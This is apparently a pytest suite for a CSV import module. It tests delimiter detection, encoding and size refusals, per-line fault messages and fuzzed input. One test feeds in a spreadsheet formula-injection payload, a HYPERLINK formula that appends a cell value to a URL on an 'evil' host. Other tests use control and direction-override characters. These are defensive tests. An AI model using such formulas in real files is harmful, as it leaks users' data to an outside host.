# SPDX-FileCopyrightText: 2026 Soglia contributors
# SPDX-License-Identifier: AGPL-3.0-or-later
"""CSV from anybody: read when it can mean one thing, refused in words when it cannot."""

from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.errors import DomainError
from app.spreadsheets import Sheet, read
from app.spreadsheets.sheets import MOST_FAULTS


def csv(text: str, name: str = "goods.csv", **more: int) -> Sheet:
    return read(name, text.encode(), **more)


def refused(content: bytes | str, name: str = "goods.csv", **more: int) -> DomainError:
    began = process_time()
    with pytest.raises(DomainError) as caught:
        read(name, content.encode() if isinstance(content, str) else content, **more)
    assert process_time() - began < 1
    assert caught.value.message % caught.value.details
    return caught.value


def faults(sheet: Sheet) -> list[tuple[int, str, str]]:
    return [(one.line, one.column, one.message) for one in sheet.faults.listed]


# ---------------------------------------------------------------- what is read


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
@pytest.mark.parametrize("mark", ["", "\ufeff"])
def test_the_sign_between_cells_is_found_in_the_head(delimiter: str, end: str, mark: str) -> None:
    lines = ['"code, of a kind";"name\tor; so"', "A1;è", '"x;y,z\t";"say ""so"""', ""]
    sheet = csv(mark + end.join(lines).replace('";"', f'"{delimiter}"').replace("A1;", f"A1{delimiter}"))
    assert sheet.header == ["code, of a kind", "name or; so"] and sheet.delimiter == delimiter and sheet.kind == "csv"
    assert [row.cells for row in sheet.rows] == [["A1", "è"], ["x;y,z", 'say "so"']]
    assert [row.line for row in sheet.rows] == [2, 3] and not sheet.faults.count
    assert sheet.by_column(sheet.rows[0]) == {"code, of a kind": "A1", "name or; so": "è"}


def test_a_file_that_says_its_sign_is_believed() -> None:
    sheet = csv("sep=;\r\na,b;c\r\n1,5;2\r\n")
    assert sheet.header == ["a,b", "c"] and sheet.rows[0].cells == ["1,5", "2"]


def test_a_single_column_and_empty_lines() -> None:
    sheet = csv("\r\n\r\ncode\r\nA1\r\n\r\n  \r\nA2\r\n\r\n")
    assert sheet.header == ["code"] and [(row.line, row.cells) for row in sheet.rows] == [(4, ["A1"]), (7, ["A2"])]


def test_text_is_composed_and_without_blanks_around_it() -> None:
    assert csv("a;b\n  e\u0300  ;\u00a0x\u00a0\n").rows[0].cells == ["è", "x"]
    assert csv('a;b\n"one\ntwo";x\n').rows[0].cells == ["one\ntwo", "x"]


def test_columns_without_a_title_at_the_end_are_left_out_where_they_are_empty() -> None:
    sheet = csv("a;b;;\n1;2;;\n3;4;;x\n5;6\n")
    assert sheet.header == ["a", "b"] and [row.cells for row in sheet.rows] == [["1", "2"], ["5", "6"]]
    assert faults(sheet) == [(3, "", "This line has 4 cells, the head has 2.")]


def test_a_formula_is_text_exactly_as_typed() -> None:
    sheet = csv('code,name,qty\r\nA1,"=HYPERLINK(""http://evil/?""&A1,""x"")",1\r\n')
    assert sheet.rows[0].cells == ["A1", '=HYPERLINK("http://evil/?"&A1,"x")', "1"]


# ---------------------------------------------------------------- lines that cannot be taken


def test_every_line_that_cannot_be_taken_says_why_and_the_others_are_there() -> None:
    lines = [
        "code,name,qty",
        "A1,\x00,1",
        "A2,ok,1",
        "A3,short",
        "A4,b,1,more",
        "A5," + "x" * 1001 + ",1",
        "A6,\u202ex,\x07",
    ]
    sheet = csv("\r\n".join(lines))
    assert [row.line for row in sheet.rows] == [3]
    assert faults(sheet) == [
        (2, "name", "This text holds a control character."),
        (4, "", "This line has 2 cells, the head has 3."),
        (5, "", "This line has 4 cells, the head has 3."),
        (6, "name", "This cell is longer than 1000 letters."),
        (7, "name", "This text holds a character that changes the writing direction."),
        (7, "qty", "This text holds a control character."),
    ]
    assert sheet.faults.lines == {2, 4, 5, 6, 7} and sheet.faults.count == 6


def test_reasons_are_listed_up_to_a_bound_and_counted_beyond() -> None:
    sheet = csv("a,b\n" + "1\n" * 5_000)
    assert len(sheet.faults.listed) == MOST_FAULTS and sheet.faults.count == 5_000 and sheet.rows == []


def test_a_cell_of_a_thousand_letters_is_taken() -> None:
    assert csv(f"a,b\n{'x' * 1000},1\n").rows[0].cells == ["x" * 1000, "1"]


# ---------------------------------------------------------------- files that cannot be taken


@pytest.mark.parametrize(
    ("content", "code", "status"),
    [
        ("", "file_empty", 422),
        ("\ufeff", "file_empty", 422),
        ("\r\n \r\n;;\r\n", "file_empty", 422),
        ("code;qty\r\n", "file_empty", 422),
        ("code,name,qty,qty\r\nA1,a,1,900\r\n", "file_columns", 422),
        ("code, Code \r\nA1,a\r\n", "file_columns", 422),
        ("code,,qty\r\nA1,a,1\r\n", "file_columns", 422),
        (f"{'x' * 101},b\r\n1,2\r\n", "file_columns", 422),
        ("a\u202eb,b\r\n1,2\r\n", "file_columns", 422),
        ("a,b\r\n1,2\r\n" + "1,2\r\n" * 10, "file_too_large", 413),
        ("a,b\r\n" + "\r\n" * 5_000, "file_too_large", 413),
        (",".join(f"c{number}" for number in range(201)) + "\n1", "file_too_large", 413),
        ("code,name,qty\r\nA1," + "x" * 200_000 + ",1\r\n", "file_unreadable", 422),
        ('a,b\r\n1,"2\r\n3,4\r\n', "file_unreadable", 422),
        ('a,b\r\n1,"2"3\r\n', "file_unreadable", 422),
        (b"code,name,qty\r\nA1,\xed\xee\xf1\xea\xe8,1\r\n", "file_unreadable", 422),
        (b"code;name\r\nA1;caff\xe8\r\n", "file_unreadable", 422),
        ("code;name\r\nA1;è\r\n".encode("utf-16"), "file_unreadable", 422),
        (b"PK\x03\x04 and more", "file_unreadable", 422),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "file_unreadable", 422),
        (b"\x89PNG\r\n\x1a\n", "file_unreadable", 422),
        (b"%PDF-1.7", "file_unreadable", 422),
    ],
    ids=range(22),
)
def test_what_cannot_be_used_is_refused_whole(content: bytes | str, code: str, status: int) -> None:
    refusal = refused(content, most_rows=10)
    assert (refusal.code, refusal.status) == (code, status)


def test_the_column_that_is_there_twice_is_named() -> None:
    assert refused("code,qty,Qty\n1,2,3\n").details == {"column": "Qty"}


@pytest.mark.parametrize(
    ("content", "first"),
    [(b"n\nSocks\nNo\xf1o\xe8\n", "windows-1252"), ("n\nЮЖЛЫ\n".encode("cp1251"), "windows-1251")],
)
def test_another_encoding_is_named(content: bytes, first: str) -> None:
    said = refused(content).details["encodings"]
    assert said.startswith(first) and "windows-125" in said.replace(first, "")
    assert refused("a;b\n1;2\n".encode("utf-16")).details == {"encodings": "UTF-16"}


def test_the_line_where_a_quotation_mark_stays_open_is_named() -> None:
    assert refused('a,b\n1,2\n3,"4\n5,6\n').details == {"line": 3}


@pytest.mark.parametrize("name", ["goods.xls", "goods", "goods.ods", "goods.csv.exe", ""])
def test_other_kinds_of_files_are_refused(name: str) -> None:
    assert refused("a;b\n1;2\n", name).code == "file_unreadable"


def test_the_ending_counts_in_any_case() -> None:
    assert csv("a;b\n1;2\n", "GOODS.CSV").rows and csv("a\tb\n1\t2\n", "x.tsv").rows


@pytest.mark.parametrize(
    "content", [b";" * 8_000_000, b"\n" * 8_000_000, b'"' * 8_000_000, b"a,b\n" + b"x,1\n" * 2_000_000]
)
def test_large_nonsense_takes_no_time(content: bytes) -> None:
    began = process_time()
    with pytest.raises(DomainError):
        read("x.csv", content)
    assert process_time() - began < 3


def test_too_many_bytes_are_refused_before_anything_else() -> None:
    assert refused(b"a" * (8 * 1024 * 1024 + 1)).code == "file_too_large"


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_a_csv_with_bytes_turned_over_is_read_or_refused(data: st.DataObject) -> None:
    content = bytearray('code;name;qty\r\nA1;"à ""b""; c";12\r\nA2;d;3\r\n'.encode())
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    try:
        sheet = read("x.csv", bytes(content))
    except DomainError as refusal:
        assert refusal.message % refusal.details
    else:
        assert all(len(row.cells) == len(sheet.header) for row in sheet.rows)
